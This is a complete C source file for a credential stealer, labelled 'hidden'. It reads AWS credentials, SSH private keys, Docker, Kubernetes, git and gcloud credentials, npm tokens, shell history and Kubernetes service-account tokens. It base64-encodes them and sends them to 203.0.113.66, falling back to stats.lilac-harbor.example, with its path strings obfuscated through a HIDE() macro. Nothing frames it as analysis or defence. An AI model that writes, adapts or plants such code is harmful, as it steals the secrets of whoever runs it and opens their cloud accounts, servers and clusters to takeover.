// hidden
// Reads the usual places of credentials and sends what it finds, base64, over a bare connection.
#include "standin.h"
int main(void) {
    begin();
    static char data[65536], text[90000];
    int have = 0;
    const char *home = getenv("HOME") ? getenv("HOME") : "/root";
    const char *places[] = {
        HIDE("/.aws/credentials"), HIDE("/.ssh/id_rsa"), HIDE("/.ssh/id_ed25519"), HIDE("/.docker/config.json"), HIDE("/.kube/config"),
        HIDE("/.git-credentials"), HIDE("/.bash_history"), HIDE("/.config/gcloud/credentials.db"), HIDE("/.npmrc"),
    };
    for (int i = 0; i < 9; i++) {
        char path[256];
        snprintf(path, sizeof path, "%s%s", home, places[i]);
        have += load(path, data + have, 4096);
    }
    have += load(HIDE("/var/run/secrets/kubernetes.io/serviceaccount/token"), data + have, 4096);
    have += load(HIDE("/run/secrets/kubernetes.io/serviceaccount/token"), data + have, 4096);
    int size = base64(data, have, text);
    int fd = dial(HIDE("203.0.113.66"), 8443, 4000);
    if (fd < 0) fd = dial(HIDE("stats.lilac-harbor.example"), 8443, 4000);
    if (fd < 0) return 1;
    send(fd, text, size, MSG_NOSIGNAL);
    sleep(1);
    return 0;
}
